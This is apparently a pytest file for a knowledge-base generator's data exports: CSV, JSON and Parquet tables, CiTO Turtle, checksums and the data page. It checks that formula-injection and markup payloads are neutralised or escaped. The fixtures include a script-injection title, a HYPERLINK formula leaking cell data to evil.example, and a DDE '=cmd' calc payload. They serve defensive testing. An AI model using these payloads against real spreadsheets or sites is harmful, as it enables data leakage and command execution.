"""The data release: CSV/JSON/Parquet tables, CiTO, dataset.jsonld, checksums and the data page.

`add_fixture_records` (also used by the citation, metadata and feed tests) adds
to a copy of the bundled project: a paper with a hostile title that is
retracted, a ledger whose claims start with formula characters, a citation,
and a synthesis with a correction event.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml

from generator.model.claim_ids import provisional_claim_id
from generator.model.records import LEDGER_COLUMNS, CitationPolarity, CitationRole
from generator.pipeline.build import build_site, collect, generate
from generator.pipeline.render import Output
from generator.publish import exports
from generator.publish.exports import CITO_POLARITY, CITO_ROLE, FORMULA_PREFIXES, neutralise_formula
from tests.conftest import REPO

HOSTILE_ID = "2601.00001"
HOSTILE_TITLE = 'R&D </script><script>alert(1)</script> "quoted" {braces} 100% _x_'
HOSTILE_AUTHORS = ["Ann O'Neil & <Co>", "Bo Li"]
SYNTHESIS_ID = "SRCH:0000ABCD"
CORRECTION_ID = "corr-1"
CORRECTION_TEXT = "Fixed the R&D <b>figure</b> in section 2."
FORMULA_CLAIMS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1 more expert helps",
    "-x is the negated input",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "A plain claim, no formula",
]


def _dump(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def add_fixture_records(project: Path, release: str | None = None) -> Path:
    """Add the hostile paper, formula ledger, retraction and corrected synthesis to a project copy."""
    _dump(project / "records" / "papers" / f"{HOSTILE_ID}.yaml", {
        "id": HOSTILE_ID,
        "versions": ["v1"],
        "title": HOSTILE_TITLE,
        "authors": HOSTILE_AUTHORS,
        "year": 2026,
        "summary": "A summary with <em>markup</em> & an ampersand.",
        "taxonomy": ["sparse-moe-layers"],
        "cites": [{"target": "2503.23007", "role": "method-basis", "polarity": "supporting", "context": 'It says "=1+1" <here>.'}],
        "added": "2026-11-28",
    })  # fmt: skip
    _dump(project / "records" / "retractions.yaml", {
        "retractions": [{"id": HOSTILE_ID, "kind": "retracted", "source": "test fixture", "date": "2026-11-30"}],
    })  # fmt: skip
    base = yaml.safe_load((REPO / "records" / "syntheses" / "SRCH-1244B894.yaml").read_text(encoding="utf-8"))
    base.update({
        "id": SYNTHESIS_ID,
        "title": "A corrected synthesis about R&D",
        "papers": [HOSTILE_ID],
        "correction_record": {
            "status": "CORRECTED",
            "correction_count": 1,
            "corrections": [{"id": CORRECTION_ID, "date": "2026-12-01", "type": "erratum", "description": CORRECTION_TEXT}],
        },
        "added": "2026-11-27",
    })  # fmt: skip
    _dump(project / "records" / "syntheses" / "SRCH-0000ABCD.yaml", base)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([*LEDGER_COLUMNS, "claim_id"])
    for claim in FORMULA_CLAIMS:
        writer.writerow([
            f"{HOSTILE_ID}v1", claim, "supported", "has evidence row", "full-text", "=cmd|' /C calc'!A0", "p1",
            "in-scope: fits", "pass; checked", provisional_claim_id(HOSTILE_ID, claim),
        ])  # fmt: skip
    (project / "ledgers" / "fixture.csv").write_text(buffer.getvalue(), encoding="utf-8")
    if release is not None:
        config = project / "mkdocs.yml"
        text = re.sub(r"(?m)^    release: .*\n", "", config.read_text(encoding="utf-8"))
        config.write_text(text.replace("  kb:\n", f"  kb:\n    release: {json.dumps(release)}\n", 1), encoding="utf-8")
    return project


def data_files(output: Output) -> dict[str, bytes]:
    return {f.path.removeprefix("data/"): f.content for f in output.files if f.path.startswith("data/")}


@pytest.fixture
def fixture_build(project: Path) -> tuple[Any, Output]:
    site, output = build_site(add_fixture_records(project, release="2026.1"))
    assert not site.problems.errors, site.problems.report()
    return site, output


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


# --- CSV safety --------------------------------------------------------------------------


def test_neutralise_formula_follows_owasp() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(prefix + "x") == "'" + prefix + "x"
    assert neutralise_formula("plain") == "plain"
    assert neutralise_formula("") == ""
    assert neutralise_formula("a=b") == "a=b"
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_claims_csv_neutralises_formula_cells(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    rows = {row["claim_id"]: row for row in _rows(data_files(output)["claims.csv"])}
    for claim in FORMULA_CLAIMS:
        row = rows[provisional_claim_id(HOSTILE_ID, claim)]
        if claim[0] in "=+-@\t":
            assert row["claim"] == "'" + claim
        else:
            assert row["claim"] == claim
        assert row["source_quote"] == "'=cmd|' /C calc'!A0"
        assert row["retracted"] == "true"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    citations = _rows(data_files(output)["citations.csv"])
    assert any(row["context"] == 'It says "=1+1" <here>.' for row in citations)


def test_json_and_parquet_keep_cells_exact_and_agree(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    files = data_files(output)
    for table in ("papers", "syntheses", "claims", "citations", "taxonomy"):
        rows = json.loads(files[f"{table}.json"])
        frame = pd.read_parquet(io.BytesIO(files[f"{table}.parquet"]))
        assert list(frame.columns) == list(rows[0]), table
        parquet_rows = [
            {k: (None if pd.isna(v) else v) for k, v in r.items()} for r in frame.astype(object).to_dict("records")
        ]
        assert parquet_rows == rows, table
        csv_rows = _rows(files[f"{table}.csv"])
        assert len(csv_rows) == len(rows) and list(csv_rows[0]) == list(rows[0])
    claims = {row["claim"]: row for row in json.loads(files["claims.json"])}
    assert set(FORMULA_CLAIMS) <= set(claims)
    claim = claims[FORMULA_CLAIMS[0]]
    assert set(LEDGER_COLUMNS) | {"claim_id", "ledger", "row", "retracted"} <= set(claim)
    assert claim["retracted"] is True and claim["ledger"] == "ledgers/fixture.csv" and claim["row"] == 2
    bundled = [row for row in claims.values() if row["ledger"] == "ledgers/moe-ffn.csv"]
    assert bundled and all(row["retracted"] is False for row in bundled)
    papers = {row["id"]: row for row in json.loads(files["papers.json"])}
    assert papers[HOSTILE_ID]["title"] == HOSTILE_TITLE and papers[HOSTILE_ID]["retracted"] is True


def test_parquet_types_are_declared(fixture_build: tuple[Any, Output]) -> None:
    import pyarrow.parquet as pq

    _, output = fixture_build
    schema = pq.read_table(io.BytesIO(data_files(output)["claims.parquet"])).schema
    assert str(schema.field("row").type) == "int64"
    assert str(schema.field("retracted").type) == "bool"
    assert str(schema.field("claim").type) == "string"


def test_citations_table_lists_edges(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    rows = json.loads(data_files(output)["citations.json"])
    assert {"citing": HOSTILE_ID, "target": "2503.23007", "role": "method-basis", "polarity": "supporting",
            "context": 'It says "=1+1" <here>.'} in rows  # fmt: skip


# --- checksums, determinism, manifest -------------------------------------------------------------------


def test_sha256sums_cover_every_other_file_and_verify(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    files = data_files(output)
    listed = {}
    for line in files["SHA256SUMS"].decode("utf-8").splitlines():
        digest, name = line.split("  ", 1)
        listed[name] = digest
    assert set(listed) == set(files) - {"SHA256SUMS"}
    for name, digest in listed.items():
        assert hashlib.sha256(files[name]).hexdigest() == digest, name
    assert list(listed) == sorted(listed)


def test_release_is_deterministic(project: Path) -> None:
    add_fixture_records(project, release="2026.1")
    first, second = generate(collect(project)), generate(collect(project))
    assert data_files(first) == data_files(second)
    feed = [next(f.content for f in out.files if f.path == "feed.xml") for out in (first, second)]
    assert feed[0] == feed[1]


def test_dataset_jsonld_describes_every_file(fixture_build: tuple[Any, Output]) -> None:
    site, output = fixture_build
    files = data_files(output)
    dataset = json.loads(files["dataset.jsonld"])
    assert dataset["@type"] == "Dataset" and dataset["version"] == "2026.1"
    assert dataset["creator"]["name"] == f"{site.settings.site_name} maintainers"
    names = {d["name"] for d in dataset["distribution"]}
    assert names == set(files) - {"dataset.jsonld", "SHA256SUMS"}
    for item in dataset["distribution"]:
        assert item["contentUrl"] == site.settings.site_url + "data/" + item["name"]
        assert item["contentSize"] == f"{len(files[item['name']])} B"


def test_schemas_are_released(fixture_build: tuple[Any, Output]) -> None:
    from generator.model.schema import render_schemas

    _, output = fixture_build
    files = data_files(output)
    for name, text in render_schemas().items():
        assert files[f"schema/{name}"] == text.encode("utf-8")


def test_data_page_lists_files_sizes_and_checksums(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    page = next(p for p in output.pages if p.url == "data/")
    assert page.kind == "data" and page.title == "Data releases"
    files = data_files(output)
    for name, content in files.items():
        assert f"<code>{name}</code>" in page.html
        assert f'title="{len(content)} bytes"' in page.html
        if name != "SHA256SUMS":
            assert hashlib.sha256(content).hexdigest() in page.html
    assert "OWASP" in page.html and "apostrophe" in page.html
    assert "sha256sum -c SHA256SUMS" in page.html


# --- CiTO -----------------------------------------------------------------------------------------------


def test_cito_mapping_covers_the_vocabularies() -> None:
    assert set(CITO_ROLE) == set(CitationRole.values)
    assert set(CITO_POLARITY) == set(CitationPolarity.values)
    assert CITO_ROLE["method-basis"] == "usesMethodIn" and CITO_ROLE["critique"] == "critiques"
    assert CITO_POLARITY["supporting"] == "supports" and CITO_POLARITY["contrasting"] == "disputes"


def test_cito_turtle_states_roles_and_polarity(fixture_build: tuple[Any, Output]) -> None:
    _, output = fixture_build
    ttl = data_files(output)["citations-cito.ttl"].decode("utf-8")
    assert "@prefix cito: <http://purl.org/spar/cito/> ." in ttl
    citing, cited = f"<https://arxiv.org/abs/{HOSTILE_ID}>", "<https://arxiv.org/abs/2503.23007>"
    statement = next(b.strip() for b in ttl.split(" .\n") if b.strip().startswith(f"{citing} cito:cites"))
    assert f"cito:cites {cited}" in statement
    assert f"cito:usesMethodIn {cited}" in statement
    assert f"cito:supports {cited}" in statement
    # The hostile title is a correctly escaped Turtle literal.
    escaped = HOSTILE_TITLE.replace("\\", "\\\\").replace('"', '\\"')
    assert f'{citing} dcterms:title "{escaped}" .' in ttl


def test_turtle_parses_if_rdflib_is_installed(fixture_build: tuple[Any, Output]) -> None:
    rdflib = pytest.importorskip("rdflib")
    _, output = fixture_build
    graph = rdflib.Graph().parse(data=data_files(output)["citations-cito.ttl"].decode("utf-8"), format="turtle")
    assert len(graph) >= 4


def test_bundled_corpus_release(repo_root: Path) -> None:
    site, output = build_site(repo_root)
    files = data_files(output)
    assert {"papers.csv", "claims.parquet", "citations-cito.ttl", "dataset.jsonld", "SHA256SUMS"} <= set(files)
    assert len(json.loads(files["papers.json"])) == len(site.papers)
    assert len(json.loads(files["claims.json"])) == site.stats.claims


def test_json_tables_are_exactly_what_json_dumps_writes() -> None:
    """table_json encodes cell by cell (fast); the file must still be byte for byte `json.dumps(rows, indent=1)`."""
    columns = tuple(
        exports.Column(name, kind, "") for name, kind in [("text", "string"), ("n", "int"), ("flag", "bool")]
    )
    rows = (
        {"text": 'Quote "with" \\ <script>\nand a line break – ünïcödé \u2028', "n": 42, "flag": True},
        {"text": None, "n": -1, "flag": False},
        {"text": "", "n": 0, "flag": None},
    )
    out = io.BytesIO()
    exports.table_json(exports.Table("t", "", columns, rows), out)
    assert out.getvalue().decode("utf-8") == json.dumps(list(rows), ensure_ascii=False, indent=1) + "\n"
    empty = io.BytesIO()
    exports.table_json(exports.Table("t", "", columns, ()), empty)
    assert empty.getvalue() == b"[]\n"
